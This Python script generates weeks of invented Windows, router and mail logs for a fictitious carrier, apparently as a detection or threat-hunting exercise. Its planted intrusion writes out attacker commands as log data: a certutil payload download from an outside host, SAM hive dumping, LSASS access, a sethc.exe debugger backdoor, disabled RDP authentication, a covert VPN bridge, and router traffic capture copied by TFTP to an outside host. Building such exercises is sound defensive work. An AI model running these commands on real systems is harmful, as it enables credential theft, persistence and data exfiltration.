"""Writes some weeks of host logs of Northgate Communications, a fictitious regional carrier.

Everything is invented. Planted: an intrusion by way of a GIS server, with a VPN bridge under a borrowed name, a second
host reached with stolen credentials and the directory copied; a router entered through its web interface; passwords tried
at the mail server. Near misses: remote support that is old, a backup job that lists shadow copies, SoftEther installed on
purpose on one host, a planned change on another router, a telephone with an old password. And noise. The same seed
gives the same files:

    python examples/generate_northgate_logs.py
"""

from __future__ import annotations

import json
import random
from datetime import UTC, datetime, timedelta
from pathlib import Path

FOLDER = Path(__file__).parent / "northgate" / "logs"
SEED = 20260106
START = datetime(2026, 9, 14, 6, 0, tzinfo=UTC)
SYSMON = "Microsoft-Windows-Sysmon/Operational"
HOSTS = ["NG-GIS01", "NG-DC01", "NG-FILE01", "NG-BILL02", "NG-WS114", "NG-WS127", "NG-WS203"]
USERS = ["NORTHGATE\\lindqvist", "NORTHGATE\\okafor", "NORTHGATE\\svc-backup", "NORTHGATE\\adm-haas"]
PROGRAMS = [
    (
        "C:\\Windows\\System32\\svchost.exe",
        "svchost.exe -k netsvcs -p",
        "C:\\Windows\\System32\\services.exe",
    ),
    (
        "C:\\Windows\\System32\\conhost.exe",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe", "C:\\Windows\\System32\\svchost.exe"),
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "chrome.exe --type=renderer",
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    ),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        "OUTLOOK.EXE",
        "C:\\Windows\\explorer.exe",
    ),
    (
        "C:\\Program Files\\ArcGIS\\Server\\framework\\runtime\\ArcGIS\\bin\\ArcSOC.exe",
        "ArcSOC.exe -Djava.awt.headless=true",
        "C:\\Windows\\System32\\services.exe",
    ),
    (
        "C:\\Windows\\System32\\dllhost.exe",
        "dllhost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
        "C:\\Windows\\System32\\svchost.exe",
    ),
    ("C:\\Windows\\System32\\ipconfig.exe", "ipconfig /all", "C:\\Windows\\System32\\cmd.exe"),
]
NAMES = [
    "www.northgate.example",
    "outlook.office365.com",
    "ctldl.windowsupdate.com",
    "login.microsoftonline.com",
    "time.windows.com",
    "softether-news.example.org",
]


class Log:
    """Events of one host, in the flat JSON of a log shipper."""

    def __init__(self) -> None:
        self.events: list[dict[str, object]] = []

    def add(self, moment: datetime, host: str, channel: str, event_id: int, **fields: object) -> None:
        self.events.append(
            {
                "@timestamp": moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z",
                "Channel": channel,
                "EventID": event_id,
                "Computer": f"{host}.northgate.example",
                **fields,
            }
        )

    def process(
        self, moment: datetime, host: str, image: str, line: str, parent: str, user: str, **more: object
    ) -> None:
        self.add(
            moment, host, SYSMON, 1, Image=image, CommandLine=line, ParentImage=parent, User=user,
            OriginalFileName=more.pop("OriginalFileName", image.rpartition("\\")[2]), **more,
        )  # fmt: skip


def noise(log: Log, random_: random.Random, days: int) -> None:
    for _ in range(2600):
        moment = START + timedelta(seconds=random_.random() * days * 86400)
        host = random_.choice(HOSTS)
        sort = random_.random()
        if sort < 0.45:
            image, line, parent = random_.choice(PROGRAMS)
            log.process(moment, host, image, line, parent, random_.choice(USERS))
        elif sort < 0.7:
            log.add(
                moment,
                host,
                SYSMON,
                22,
                Image="C:\\Windows\\System32\\svchost.exe",
                QueryName=random_.choice(NAMES),
                QueryResults="198.51.100.7;",
            )
        elif sort < 0.9:
            log.add(
                moment,
                host,
                "Security",
                4624,
                TargetUserName=random_.choice(USERS)[10:],
                LogonType=random_.choice([3, 3, 3, 2, 5]),
                IpAddress=f"10.20.{random_.randrange(4)}.{random_.randrange(1, 250)}",
            )
        else:
            log.add(
                moment,
                host,
                SYSMON,
                3,
                Image="C:\\Windows\\System32\\svchost.exe",
                Initiated="true",
                DestinationIp="198.51.100.7",
                DestinationPort=443,
            )


def intrusion(log: Log) -> None:
    """A GIS server, then the file server, over nine days."""
    at = datetime(2026, 10, 6, 2, 11, 4, tzinfo=UTC)
    arc = "C:\\Program Files\\ArcGIS\\Server\\framework\\runtime\\ArcGIS\\bin\\ArcSOC.exe"
    cmd, system = "C:\\Windows\\System32\\cmd.exe", "NT AUTHORITY\\SYSTEM"
    gis, file = "NG-GIS01", "NG-FILE01"
    log.process(at, gis, cmd, "cmd.exe /c whoami", arc, "NORTHGATE\\svc-arcgis")
    log.process(
        at + timedelta(minutes=4),
        gis,
        "C:\\Windows\\System32\\certutil.exe",
        "certutil -urlcache -split -f http://203.0.113.77/b.zip C:\\ProgramData\\b.zip",
        cmd,
        "NORTHGATE\\svc-arcgis",
        OriginalFileName="CertUtil.exe",
    )
    log.process(
        at + timedelta(minutes=9),
        gis,
        "C:\\ProgramData\\p.exe",
        "p.exe -l 1341 -p C:\\Windows\\System32\\cmd.exe -t * -c {4991d34b-80a1-4291-83b6-3328366b9097}",
        cmd,
        "NORTHGATE\\svc-arcgis",
    )
    log.add(
        at + timedelta(minutes=12),
        gis,
        SYSMON,
        11,
        Image=arc,
        TargetFilename="C:\\Windows\\System32\\bridge.exe",
        User=system,
    )
    log.add(
        at + timedelta(minutes=12, seconds=8),
        gis,
        SYSMON,
        11,
        Image="C:\\Windows\\System32\\bridge.exe",
        TargetFilename="C:\\Windows\\System32\\hamcore.se2",
        User=system,
    )
    log.add(
        at + timedelta(minutes=13),
        gis,
        "System",
        7045,
        Provider_Name="Service Control Manager",
        ServiceName="SysBridge",
        ImagePath="C:\\Windows\\System32\\bridge.exe",
        StartType="auto start",
        AccountName="LocalSystem",
    )
    log.process(
        at + timedelta(minutes=13, seconds=20),
        gis,
        "C:\\Windows\\System32\\bridge.exe",
        "C:\\Windows\\System32\\bridge.exe /service",
        "C:\\Windows\\System32\\services.exe",
        system,
        OriginalFileName="vpnbridge.exe",
        Product="SoftEther VPN",
    )
    log.add(
        at + timedelta(minutes=14),
        gis,
        SYSMON,
        22,
        Image="C:\\Windows\\System32\\bridge.exe",
        QueryName="x7.x2.servers.nat-traversal.softether-network.net",
        QueryResults="203.0.113.80;",
    )
    for day in range(9):
        log.add(
            at + timedelta(days=day, minutes=15),
            gis,
            SYSMON,
            3,
            Image="C:\\Windows\\System32\\bridge.exe",
            Initiated="true",
            DestinationIp="203.0.113.80",
            DestinationPort=443,
        )
    later = at + timedelta(days=3, hours=1)
    log.process(
        later, gis, "C:\\Windows\\System32\\reg.exe", "reg save HKLM\\SAM C:\\ProgramData\\s.hiv", cmd, system
    )
    log.add(
        later + timedelta(minutes=6),
        gis,
        SYSMON,
        10,
        SourceImage="C:\\ProgramData\\m.exe",
        TargetImage="C:\\Windows\\system32\\lsass.exe",
        GrantedAccess="0x1010",
    )
    log.process(
        at + timedelta(days=4, minutes=58),
        gis,
        "C:\\Windows\\System32\\wbem\\WMIC.exe",
        'wmic /node:NG-FILE01 process call create "cmd /c hostname"',
        cmd,
        "NORTHGATE\\adm-haas",
    )
    over = at + timedelta(days=4, hours=1)
    log.process(
        over,
        file,
        "C:\\Windows\\System32\\cmd.exe",
        "cmd /c hostname",
        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        "NORTHGATE\\adm-haas",
    )
    log.process(
        over + timedelta(minutes=2),
        file,
        "C:\\Windows\\System32\\reg.exe",
        'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp" /v UserAuthentication /t REG_DWORD /d 0 /f',
        cmd,
        "NORTHGATE\\adm-haas",
    )
    log.add(
        over + timedelta(minutes=3),
        file,
        SYSMON,
        13,
        Image="C:\\Windows\\System32\\reg.exe",
        TargetObject="HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger",
        Details="C:\\Windows\\System32\\taskmgr.exe",
        User="NORTHGATE\\adm-haas",
    )
    log.process(
        over + timedelta(hours=1),
        file,
        "C:\\Windows\\System32\\Taskmgr.exe",
        "C:\\Windows\\System32\\taskmgr.exe sethc.exe 211",
        "C:\\Windows\\System32\\winlogon.exe",
        system,
    )
    log.add(
        at + timedelta(days=5),
        "NG-DC01",
        "Security",
        4662,
        SubjectUserName="adm-haas",
        Properties="%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}",
        ObjectServer="DS",
    )


def near_misses(log: Log) -> None:
    """What looks alike and is meant."""
    at = datetime(2026, 9, 29, 9, 0, tzinfo=UTC)
    log.process(
        at,
        "NG-BILL02",
        "C:\\Windows\\System32\\vssadmin.exe",
        "vssadmin list shadows",
        "C:\\Program Files\\Backup\\agent.exe",
        "NORTHGATE\\svc-backup",
    )
    log.process(
        at + timedelta(days=1),
        "NG-WS203",
        "C:\\Program Files\\SoftEther VPN Client\\vpnclient_x64.exe",
        "vpnclient_x64.exe /service",
        "C:\\Windows\\System32\\services.exe",
        "NT AUTHORITY\\SYSTEM",
        OriginalFileName="vpnclient.exe",
        Product="SoftEther VPN",
    )
    for day in range(0, 40, 4):
        log.process(
            at + timedelta(days=day - 10),
            "NG-WS114",
            "C:\\Program Files (x86)\\TeamViewer\\TeamViewer_Service.exe",
            "TeamViewer_Service.exe",
            "C:\\Windows\\System32\\services.exe",
            "NT AUTHORITY\\SYSTEM",
        )
    log.process(
        datetime(2026, 10, 20, 8, 3, tzinfo=UTC),
        "NG-WS127",
        "C:\\Users\\okafor\\Downloads\\AnyDesk.exe",
        "AnyDesk.exe",
        "C:\\Windows\\explorer.exe",
        "NORTHGATE\\okafor",
    )
    log.add(
        at,
        "NG-DC01",
        "Security",
        4662,
        SubjectUserName="NG-DC02$",
        Properties="%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}",
        ObjectServer="DS",
    )
    log.process(
        at,
        "NG-WS203",
        "C:\\Windows\\System32\\reg.exe",
        'reg query "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp" /v UserAuthentication',
        "C:\\Windows\\System32\\cmd.exe",
        "NORTHGATE\\adm-haas",
    )


def routers(random_: random.Random) -> list[str]:
    """Lines of two routers as their log server keeps them."""
    lines: list[tuple[datetime, str, str]] = []
    for _ in range(420):
        moment = START + timedelta(seconds=random_.random() * 40 * 86400)
        router = random_.choice(["ng-edge01", "ng-edge02"])
        port = f"GigabitEthernet0/0/{random_.randrange(8)}"
        text = random_.choice(
            [
                f"%LINEPROTO-5-UPDOWN: Line protocol on Interface {port}, changed state to up",
                f"%LINK-3-UPDOWN: Interface {port}, changed state to down",
                "%SYS-5-CONFIG_I: Configured from console by netops on vty0 (10.20.0.9)",
                "%PARSER-5-CFGLOG_LOGGEDCMD: User:netops  logged command:!exec: enable",
                "%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: netops] [Source: 10.20.0.9] [localport: 22]",
                "%BGP-5-ADJCHANGE: neighbor 198.51.100.1 Up",
            ]
        )
        lines.append((moment, router, text))
    at = datetime(2026, 10, 8, 3, 40, tzinfo=UTC)
    planted = [
        "%SEC_LOGIN-5-WEBLOGIN_SUCCESS: Login Success [user: cisco_support] [Source: 203.0.113.77] at 03:40:00 UTC",
        "%SYS-5-CONFIG_P: Configured programmatically by process SEP_webui_wsma_http from console as cisco_support on vty0",
        "%PARSER-5-CFGLOG_LOGGEDCMD: User:cisco_support  logged command:tunnel destination 203.0.113.80",
        "%PARSER-5-CFGLOG_LOGGEDCMD: User:cisco_support  logged command:monitor capture mycap interface GigabitEthernet0/0/1 both",
        "%PARSER-5-CFGLOG_LOGGEDCMD: User:cisco_support  logged command:copy bootflash:mycap.pcap tftp://203.0.113.80/m",
        "%PARSER-5-CFGLOG_LOGGEDCMD: User:cisco_support  logged command:no logging host 10.20.0.20",
    ]
    lines += [(at + timedelta(minutes=3 * n), "ng-edge01", text) for n, text in enumerate(planted)]
    planned = (
        "%PARSER-5-CFGLOG_LOGGEDCMD: User:netops  logged command:monitor session 4 source interface Gi0/0/2"
    )
    lines.append((datetime(2026, 9, 30, 10, 0, tzinfo=UTC), "ng-edge02", planned))
    return [
        f"<189>{moment:%Y-%m-%dT%H:%M:%S}Z {router} {number}: {text}"
        for number, (moment, router, text) in enumerate(sorted(lines), 4001)
    ]


def mail(random_: random.Random) -> list[str]:
    """A morning of the mail server's web log, W3C extended."""
    start = datetime(2026, 10, 4, 5, 0, tzinfo=UTC)
    lines: list[tuple[datetime, str]] = []
    for _ in range(300):
        moment = start + timedelta(seconds=random_.randrange(4 * 3600))
        client, user = (
            f"10.20.1.{random_.randrange(2, 60)}",
            random_.choice(["lindqvist", "okafor", "adm-haas"]),
        )
        lines.append(
            (
                moment,
                f"POST /mapi/emsmdb - 443 NORTHGATE\\{user} {client} Microsoft+Office/16.0 200 0 {random_.randrange(9, 90)}",
            )
        )
    for n in range(40):  # a telephone with an old password
        moment = start + timedelta(minutes=5 * n)
        lines.append(
            (moment, "POST /Microsoft-Server-ActiveSync/default.eas - 443 - 10.20.1.77 Apple-iPhone 401 0 12")
        )
    endpoints = [
        "ecp/",
        "EWS/Exchange.asmx",
        "OAB/",
        "owa/",
        "rpc/",
        "api/",
        "mapi/",
        "PowerShell/",
        "Autodiscover/",
    ]
    for n in range(180):
        moment = start + timedelta(hours=2, seconds=3 * n)
        path = endpoints[n % len(endpoints)]
        lines.append((moment, f"GET /{path} - 443 - 203.0.113.77 python-requests/2.31.0 401 0 8"))
    fields = "date time s-computername cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus time-taken"
    return [
        "#Software: Microsoft Internet Information Services 10.0",
        "#Version: 1.0",
        f"#Fields: {fields}",
        *(f"{moment:%Y-%m-%d %H:%M:%S} NG-MAIL01 {text}" for moment, text in sorted(lines)),
    ]


def main() -> None:
    log = Log()
    noise(log, random.Random(SEED), 40)
    intrusion(log)
    near_misses(log)
    FOLDER.mkdir(parents=True, exist_ok=True)
    events = sorted(log.events, key=lambda event: str(event["@timestamp"]))
    servers = [event for event in events if "-WS" not in str(event["Computer"])]
    clients = [event for event in events if "-WS" in str(event["Computer"])]
    for name, chosen in (("servers.ndjson", servers), ("workstations.ndjson", clients)):
        (FOLDER / name).write_text("".join(json.dumps(event) + "\n" for event in chosen), "utf-8")
    (FOLDER / "routers.log").write_text("\n".join(routers(random.Random(SEED + 1))) + "\n", "utf-8")
    (FOLDER / "mail-u_ex261004.log").write_text("\n".join(mail(random.Random(SEED + 2))) + "\n", "utf-8")
    with (FOLDER / "workstations.ndjson").open("a", encoding="utf-8") as file:
        file.write(
            '{"@timestamp": "2026-10-24T05:59:59.000Z", "Channel": "Security", "EventID": 46\n'
        )  # a shipper that died


if __name__ == "__main__":
    main()
